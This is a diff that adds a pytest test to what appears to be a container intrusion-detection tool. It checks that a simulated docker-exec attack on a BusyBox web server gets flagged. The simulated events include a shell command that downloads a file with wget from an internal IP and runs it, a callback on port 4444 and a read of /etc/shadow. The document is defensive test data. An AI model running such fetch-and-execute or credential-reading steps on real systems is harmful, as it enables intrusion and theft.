@@ -7,7 +7,7 @@ import pytest
 
 from config.schema import Settings
 from models.finding import Finding
-from probes.event import Event
+from probes.event import Event, Process
 from tests.models.scenarios import mix
 from tests.models.scenarios.attacks import ACTS
 from tests.models.world import Feed, World
@@ -105,3 +105,34 @@ def test_a_deviation_is_not_learned():
     assert 50 == sum(map(len, found))
     (row,) = feed.baselines.describe(world.workload)["quarantine"]
     assert 50 == row["count"]
+
+
+def test_a_tiny_web_server_of_one_binary_and_an_attack_by_docker_exec():
+    """BusyBox: every program is /bin/busybox. A minute of a few requests, then the five acts of the issue."""
+    world, feed = World("tiny"), Feed(max="60s")
+    busybox = "/bin/busybox"
+    httpd = Process(50, 1, 0, "httpd", busybox, ("httpd", "-f", "-h", "/www"))
+    feed.give([world.at(0).ran_as(httpd, first=True), world.listened(httpd, "0.0.0.0:80")])
+    for t in range(1, 70, 4):
+        quiet = [world.at(t).accepted(httpd, "172.17.0.1", 40_000 + t, 80), world.read(httpd, "/www/index.html")]
+        assert [] == feed.give(quiet)
+
+    shell = Process(60, 7, 0, "sh", busybox, ("sh", "-c", "wget -O /tmp/x http://172.17.0.9/x"), entered="docker exec")
+    wget = Process(61, 8, 60, "wget", busybox, ("wget", "-O", "/tmp/x", "http://172.17.0.9/x"), parent=shell)
+    dropped = Process(62, 9, 60, "x", "/tmp/x", ("/tmp/x",), parent=shell)
+    acts = (
+        world.at(80).ran_as(shell),
+        world.at(81).ran_as(wget),
+        world.at(82).connected(wget, "172.17.0.9", 80),
+        world.at(83).wrote(wget, "/tmp/x"),
+        world.at(84).changed(shell, "chmod", "/tmp/x", mode=0o755),
+        world.at(85).ran_as(dropped),
+        world.at(86).connected(dropped, "172.17.0.9", 4444),
+        world.at(87).read(httpd, "/etc/shadow"),
+    )
+    told = [[f.what for f in feed.give([act])] for act in acts]
+    calm = [world.at(90 + i).accepted(httpd, f"10.9.{i}.1", 50_000 + i, 80) for i in range(20)]
+
+    assert all(told), told
+    assert "New program in tiny: /bin/busybox wget" == told[1][0]
+    assert [] == feed.give(calm)
